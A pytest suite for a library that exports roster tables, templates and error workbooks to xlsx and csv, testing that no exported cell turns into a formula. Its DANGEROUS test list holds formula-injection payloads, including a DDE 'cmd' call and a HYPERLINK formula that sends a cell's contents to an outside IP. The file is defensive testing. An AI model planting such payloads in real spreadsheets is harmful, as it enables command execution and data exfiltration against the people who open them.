"""What goes out comes back as it was, is text all through, and holds no formula. Every file is read again."""

import csv
import re
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path
from tempfile import TemporaryDirectory

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from gridparty.lib.cells import CellRefused, read_choice, read_date, read_id_number
from gridparty.lib.roster import Column, Roster, plain, read_text
from gridparty.lib.workbook import BROWSER, Sheet, read_sheets
from gridparty.lib.workbook_out import EXAMPLE, as_text, write_errors, write_table, write_template
from people.choices import Sex
from rosters.engine import all_rosters
from rosters.headings import Names, find_header
from rosters.tables import understand

BEGINNINGS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", " =", "\u3000=", "'=", "''", "{=", "<r>"]
PAYLOADS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://203.0.113.1/?"&A1,"x")', "SUM(A1:A9)", "", "=1", "张三", "</r>"]
RAW = "<r></is></c><c r='C9'><f>1+1</f></c><c r='D9' t='inlineStr'><is><t>x</t></is></r>"
DANGEROUS = [beginning + payload for beginning in BEGINNINGS for payload in PAYLOADS] + [
    *("_x003D_1", "_x000D_=1", "&#61;1", "<![CDATA[=1]]>", "]]>", "\ufffe=1", "\ud800=1", "\x01=1", "\x7f=1", "a\rb", "a\r\nb"),
    *("𠮷", "00012", "370199199001010012", "1E5", "2024-01-02", "TRUE", "#N/A", " 前后 ", RAW),
]
HARMLESS = [text for text in DANGEROUS if not re.search("[\0\x01\ufffe\ud800]", text)]


def read(path):
    return read_sheets(path, BROWSER)


def cells_of(path):
    """Every cell of a workbook with its kind and look, as another program sees it."""
    book = openpyxl.load_workbook(path)
    return [cell for sheet in book for row in sheet for cell in row if cell.value is not None]


def formulas(path) -> int:
    if path.suffix == ".csv":
        with path.open(encoding="utf-8-sig", newline="") as file:
            return sum(bool(re.match(r"[\t\r\n]|\s*[=+\-@＝＋－＠]", cell)) for row in csv.reader(file) for cell in row)
    with zipfile.ZipFile(path) as book:
        texts = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/sheet")]
    return sum(len(re.findall(r"<f[ >/]", text)) for text in texts)


@pytest.fixture(params=[".xlsx", ".csv"])
def table(request, tmp_path):
    """Writes rows under headings; returns the path."""

    def write(columns, rows):
        path = tmp_path / f"名册{request.param}"
        assert write_table(path, columns=columns, rows=rows) == len(rows)
        return path

    return write


# --- Tables


def test_no_beginning_makes_a_formula_and_every_text_comes_back(table):
    path = table(["姓名", "说明"], [[text, "…"] for text in DANGEROUS])
    assert formulas(path) == 0
    back = [plain(row[0]) if row else "" for row in read(path)[0].rows[1:]]
    assert back == [plain(as_text(text)) for text in DANGEROUS]
    assert [plain(as_text(text)) for text in HARMLESS] == [plain(text) for text in HARMLESS]


def test_a_heading_is_no_formula_either(table):
    path = table(["=1+1", "-姓名"], [["张三", "李四"]])
    assert formulas(path) == 0
    assert [read_text(cell) for cell in read(path)[0].rows[0]] == ["=1+1", "-姓名"]


# An apostrophe at the front is Excel's own mark and is taken off, once.
TEXT = st.text(max_size=20).filter(lambda text: not plain(text).startswith("'") and not text.strip().startswith("'"))


@given(st.lists(st.lists(TEXT, min_size=1, max_size=4), max_size=5))
def test_any_text_is_written_and_comes_back(rows):
    with TemporaryDirectory() as folder:
        for name in ("t.xlsx", "t.csv"):
            path = Path(folder) / name
            write_table(path, columns=["甲", "乙", "丙", "丁"], rows=rows)
            assert formulas(path) == 0
            back = read(path)[0].rows[1:]
            filled = [[plain(cell) for cell in row] for row in back]
            wanted = [[plain(as_text(cell)) for cell in row] for row in rows]
            assert trimmed(filled) == trimmed(wanted)


def trimmed(rows):
    """Without what stands empty at the ends."""
    rows = [list(row) for row in rows]
    for row in rows:
        while row and row[-1] in ("", None):
            row.pop()
    while rows and not rows[-1]:
        rows.pop()
    return rows


def test_every_cell_of_a_workbook_is_marked_as_text(tmp_path):
    path = tmp_path / "a.xlsx"
    write_table(path, columns=["姓名", "证件号码"], rows=[["张三", "370199199001010012"], ["=1", ""]], title="党员")
    assert [sheet.name for sheet in read(path)] == ["党员"]
    assert {(cell.data_type, cell.number_format, cell.quotePrefix) for cell in cells_of(path)} == {("s", "@", 1)}
    sheet = openpyxl.load_workbook(path).active
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")
    assert sheet["A1"].font.bold
    assert (sheet.column_dimensions["A"].width < 12, sheet.column_dimensions["B"].width > 18) == (True, True)


def test_values_are_written_as_offices_write_them(table):
    row = [date(1978, 5, 1), datetime(2024, 1, 2, 3, 4, 5, 678), datetime(2024, 1, 2), 12, 3.0, 2.5, None, "　"]
    path = table([str(number) for number in range(8)], [row])
    written = ["1978-05-01", "2024-01-02 03:04:05", "2024-01-02", "12", "3", "2.5", None, "　"]
    assert read(path)[0].rows[1] == written


def test_a_csv_opens_in_excel_as_utf_8(tmp_path):
    path = tmp_path / "a.csv"
    write_table(path, columns=["姓名", "备注"], rows=[["张三", "a;b;c;d"], ["李四", 'a"b,\n']])
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    assert read(path)[0].rows == [["姓名", "备注"], ["张三", "a;b;c;d"], ["李四", 'a"b,\n']]


def test_rows_that_break_off_leave_no_file(table, tmp_path):
    def rows():
        yield ["张三"]
        raise RuntimeError("the database went away")

    for name in ("a.xlsx", "a.csv"):
        with pytest.raises(RuntimeError):
            write_table(tmp_path / name, columns=["姓名"], rows=rows())
    assert list(tmp_path.iterdir()) == []


def test_no_rows_and_a_text_too_long_for_excel(table):
    assert read(table(["姓名"], []))[0].rows == [["姓名"]]
    assert len(as_text("长" * 40_000)) == 16_001


# --- Templates

COMMUNITIES = [f"第{number}社区" for number in range(100)]
REGISTER = Roster(
    "residents",
    "居民",
    [
        Column("name", "姓名", ["姓名"], read_text, filled=True, example="张三", note="与身份证一致。"),
        Column("id_number", "公民身份号码", ["身份证号"], read_id_number, filled=True, example="370199199001010012"),
        Column("sex", "性别", ["性别"], read_choice(Sex), choices=Sex.labels, example="男"),
        Column("community", "社区", ["社区"], read_text, choices=lambda: COMMUNITIES, clearable=True),
        Column("kind", "类别", ["类别"], read_text, choices=["甲,乙", '"丙"', "=丁"], note="说明" * 200),
    ],
    judge=None,
    commit=None,
)


@pytest.fixture
def template(tmp_path):
    path = tmp_path / "模板.xlsx"
    write_template(path, roster=REGISTER)
    return path


def columns_in(roster, rows):
    """The columns a register finds in these rows, whatever row is taken for a header."""
    header = find_header(Names(roster, {}, {}), rows, [])
    return list(header.columns.values()) if header else []


def test_a_template_is_matched_by_its_register(template):
    form, guide, words = read(template)
    assert [(sheet.name, sheet.visible) for sheet in (form, guide, words)] == [
        ("填写", True),
        ("填写说明", True),
        ("字典", False),
    ]
    assert form.rows == [
        ["姓名*", "公民身份号码*", "性别", "社区", "类别"],
        ["示例：张三", "370199199001010012", "男"],
    ]
    assert columns_in(REGISTER, form.rows) == REGISTER.columns
    assert columns_in(REGISTER, guide.rows) == columns_in(REGISTER, words.rows) == []


def test_every_declared_register_has_a_template_of_which_the_filled_lines_alone_are_read(db, tmp_path):
    for roster in all_rosters():
        path = tmp_path / f"{roster.kind}.xlsx"
        write_template(path, roster=roster)
        form, guide, _words = read(path)
        assert columns_in(roster, form.rows) == list(roster.columns), roster.kind
        assert [cell for cell in form.rows[1] if cell and cell.startswith(EXAMPLE)], roster.kind
        assert columns_in(roster, guide.rows) == [], roster.kind
        assert formulas(path) == 0
        book = openpyxl.load_workbook(path)
        book["填写"].append([f"内容{n}" for n, _column in enumerate(roster.columns)])
        book.save(path)
        assert [row.number for row in understand(roster, read(path)).rows()] == [3], roster.kind


def test_a_template_helps_while_it_is_filled(template):
    sheet = openpyxl.load_workbook(template)["填写"]
    drop_downs = {str(one.sqref): one for one in sheet.data_validations.dataValidation}
    assert {where: one.formula1 for where, one in drop_downs.items()} == {
        "A2:A5000": None,
        "B2:B5000": None,
        "C2:C5000": '"男,女"',
        "D2:D5000": "'字典'!$D$1:$D$100",
        "E2:E5000": "'字典'!$E$1:$E$3",
    }
    assert (drop_downs["A2:A5000"].promptTitle, drop_downs["A2:A5000"].prompt) == ("姓名", "与身份证一致。")
    assert drop_downs["E2:E5000"].prompt == ("说明" * 200)[:255]
    assert drop_downs["C2:C5000"].errorStyle == "warning"
    assert {(one.min, one.max, one.number_format) for one in sheet.column_dimensions.values()} == {
        (1, 1, "@"),
        (2, 2, "@"),
        (3, 5, "@"),
    }
    assert (sheet["A2"].font.italic, sheet["A2"].font.color.rgb, sheet.freeze_panes) == (True, "FF808080", "A2")


def test_long_lists_stand_on_the_hidden_sheet(template):
    words = read(template)[2]
    assert [row[3] for row in words.rows] == COMMUNITIES
    assert [row[4] for row in words.rows[:3]] == ["甲,乙", '"丙"', "=丁"]
    assert formulas(template) == 0


def test_a_template_says_how_it_is_filled(template):
    text = "\n".join(row[0] for row in read(template)[1].rows)
    for word in ("清空", "保留原来", "文本格式", "1978-05-01", "示例：", "“姓名”：必填。　说明：与身份证一致。　例：张三"):
        assert word in text


# --- Error workbooks


def errors(tmp_path, sheets, problems=None, headers=None, name="错误.xlsx"):
    path = tmp_path / name
    write_errors(path, sheets=sheets, problems=problems or {}, headers=headers or {})
    return path


ROSTER = Sheet(
    "名册",
    [["某社区党员名册"], [], ["姓名", "证件号码", "出生日期"], ["张三", "37019919900101", date(1990, 1, 1)], ["=1+1", None, 1.0]],
    first_row=2,
    merged=[(2, 1, 2, 3), (5, 1, 6, 1)],
)
PROBLEM = {("名册", 5): (["号码位数不对。", "与性别不符。"], {1, 3})}


def test_the_workbook_comes_back_with_its_reasons(tmp_path):
    hidden = Sheet("说明", [["不导入"], [1.0]], visible=False, merged=[(1, 1, 2, 1)])
    path = errors(tmp_path, [hidden, ROSTER], PROBLEM, {"名册": 4})
    first, second = read(path)
    assert (first.name, first.visible, first.rows, first.merged) == ("说明", False, [["不导入"], ["1"]], [(1, 1, 2, 1)])
    assert (second.name, second.visible, second.first_row) == ("名册", True, 2)
    assert second.rows == [
        [None, "某社区党员名册"],
        [],
        ["原因", "姓名", "证件号码", "出生日期"],
        ["号码位数不对。\n与性别不符。", "张三", "37019919900101", "1990-01-01"],
        [None, "=1+1", None, "1"],
    ]
    assert second.merged == [(2, 2, 2, 4), (5, 2, 6, 2)]
    assert formulas(path) == 0


def test_bad_cells_are_coloured_and_reasons_red(tmp_path):
    sheet = openpyxl.load_workbook(errors(tmp_path, [ROSTER], PROBLEM, {"名册": 4}))["名册"]
    coloured = {cell.coordinate for row in sheet for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"}
    assert coloured == {"C5", "E5"}
    assert (sheet["A5"].font.color.rgb, sheet["A5"].alignment.wrap_text, sheet["A4"].value) == ("FFC00000", True, "原因")
    assert {cell.number_format for row in sheet for cell in row if cell.value is not None} == {"@"}
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("B5", "A4:D6")


def test_reasons_of_an_earlier_round_are_replaced(tmp_path):
    (once,) = read(errors(tmp_path, [ROSTER], PROBLEM, {"名册": 4}))
    (twice,) = read(errors(tmp_path, [once], {("名册", 6): (["缺证件号码。"], {2})}, {"名册": 4}, "再.xlsx"))
    assert twice.rows[2:] == [
        ["原因", "姓名", "证件号码", "出生日期"],
        [None, "张三", "37019919900101", "1990-01-01"],
        ["缺证件号码。", "=1+1", None, "1"],
    ]
    assert (twice.rows[0], twice.merged) == (once.rows[0], once.merged)
    sheet = openpyxl.load_workbook(tmp_path / "再.xlsx").active
    assert {cell.coordinate for row in sheet for cell in row if cell.fill.fgColor.rgb == "FFFFC7CE"} == {"C6"}


def test_dangerous_texts_come_back_as_they_were(tmp_path):
    path = errors(tmp_path, [Sheet("", [["姓名"], *([text] for text in DANGEROUS)])], {("", 2): (DANGEROUS, {0})}, {"": 1})
    (sheet,) = read(path)
    assert sheet.name == "Sheet1"
    assert formulas(path) == 0
    assert [row[1] if row[1:] else None for row in sheet.rows[1:]] == [as_text(text) or None for text in DANGEROUS]


@pytest.mark.parametrize(
    ("cell", "back"),
    [
        ("370199199001010012", "370199199001010012"),
        (15400000001.0, "15400000001"),
        (1978.0, "1978"),
        (197805.0, "197805"),
        (date(1978, 5, 1), "1978-05-01"),
        (datetime(1978, 5, 1, 8, 30), "1978-05-01 08:30:00"),
        ("001", "001"),
        (" 两边 ", " 两边 "),
        ("多\n行\r", "多\n行\r"),
        # As text the reader would take them for something else without asking.
        (2001.1, 2001.1),
        (32994.0, 32994.0),
        (370199199001010000.0, 370199199001010000.0),
        (date(1905, 5, 31), date(1905, 5, 31)),
        (True, True),
    ],
)
def test_cells_of_every_kind_come_back(tmp_path, cell, back):
    (sheet,) = read(errors(tmp_path, [Sheet("名册", [["列"], [cell]])], {("名册", 2): (["不对。"], {0})}, {"名册": 1}))
    assert sheet.rows[1] == ["不对。", back]


def answer(read, cell):
    """What a reader makes of a cell: a value, or that it is refused."""
    try:
        return read(cell)
    except CellRefused:
        return "refused"


MESSY_NUMBERS = [0.0, 1.0, 1978.0, 1978.5, 2001.1, 2001.12, 9999.0, 10000.0, 32994.0, 32994.5, 99999.0, 197805.0, 19780501.0]
MESSY_NUMBERS += [370199900101001.0, 370199199001010000.0, -5.0, 1e20, 15400000001.0, 1905.0]
MESSY_DAYS = [date(1978, 5, 1), date(1900, 5, 1), date(1905, 5, 31), date(1919, 12, 31), date(1920, 1, 1), date(2100, 1, 1)]


@pytest.mark.parametrize("reader", [read_date, read_id_number])
@pytest.mark.parametrize("cell", [*MESSY_NUMBERS, *MESSY_DAYS, datetime(2024, 1, 2, 3, 4), date(2101, 1, 1)])
def test_an_error_workbook_is_understood_as_the_file_was(tmp_path, reader, cell):
    (sheet,) = read(errors(tmp_path, [Sheet("名册", [["列"], [cell]])], {}, {"名册": 1}))
    assert answer(reader, sheet.rows[1][1]) == answer(reader, cell)


def test_a_large_one_stays_within_what_is_read_again(tmp_path):
    """100,000 rows of 25 columns unpack to 95 MB of the 120 a member may have; the same in a hundredth."""
    line = ["赵大伟", "男", "370199198005010011", "海棠区东街街道桃园社区第1网格", "1980-05-01"] * 5
    sheet = Sheet("名单", [[f"列{n}" for n in range(25)], *([*line[:-1], f"备注{n}"] for n in range(999))])
    problems = {("名单", number): (["“列2”：校验位不对，请核对。"], [2]) for number in range(2, 1001)}
    path = errors(tmp_path, [sheet], problems, {"名单": 1})
    (back,) = read_sheets(path, replace(BROWSER, member=BROWSER.member // 100))
    assert [row[1:] for row in back.rows] == sheet.rows


def test_names_of_sheets_excel_would_not_take(tmp_path):
    names = ["2024/上半年", "'名册'", "很长" * 20, "很长" * 20 + "二", "名册", "名册", "Sheet", "SHEET", "", "history", "𠮷" * 20]
    back = [sheet.name for sheet in read(errors(tmp_path, [Sheet(name, [["x"]]) for name in names]))]
    assert back == [
        *("2024_上半年", "名册", ("很长" * 20)[:31], ("很长" * 20)[:29] + "~2", "名册~2", "名册~3"),
        *("Sheet", "SHEET~2", "Sheet9", "history~2", "𠮷" * 15),
    ]


def test_a_workbook_of_hidden_sheets_shows_its_first(tmp_path):
    sheets = [Sheet(name, [["x"]], visible=False) for name in ("甲", "乙")]
    assert [sheet.visible for sheet in read(errors(tmp_path, sheets))] == [True, False]


def test_merged_ranges_on_top_of_each_other_are_left_out(tmp_path):
    sheet = Sheet("名册", [["a", "b"], ["c", "d"]], merged=[(1, 1, 2, 1), (2, 1, 2, 2), (1, 2, 1, 2)])
    (back,) = read(errors(tmp_path, [sheet], {}, {"名册": 1}))
    assert back.merged == [(1, 2, 2, 2)]


WORDS = st.text(st.characters(exclude_categories=["Cs", "Cc"], exclude_characters="\ufffe\uffff"), min_size=1, max_size=8)
CELLS = st.none() | WORDS | st.integers(0, 9_999).map(float) | st.dates(date(1920, 1, 1), date(2100, 1, 1))
ROWS = st.lists(st.lists(CELLS, max_size=4), min_size=1, max_size=5)


@given(ROWS, st.integers(1, 3), st.sets(st.integers(0, 4)), st.sets(st.integers(1, 7)))
def test_every_cell_stands_one_column_further_right(rows, first, bad, numbers):
    rows = trimmed([["表头"], *rows])
    sheet = Sheet("名册", rows, first_row=first)
    problems = {("名册", first + number): (["不对。"], bad) for number in numbers if number < len(rows)}
    with TemporaryDirectory() as folder:
        (back,) = read(errors(Path(folder), [sheet], problems, {"名册": first}))
    assert back.first_row == first
    assert trimmed(row[1:] for row in back.rows) == [[None if cell is None else as_text(cell) for cell in row] for row in rows]
    reasons = {first + index for index, row in enumerate(back.rows[1:], 1) if row and row[0]}
    assert reasons == {number for _name, number in problems}
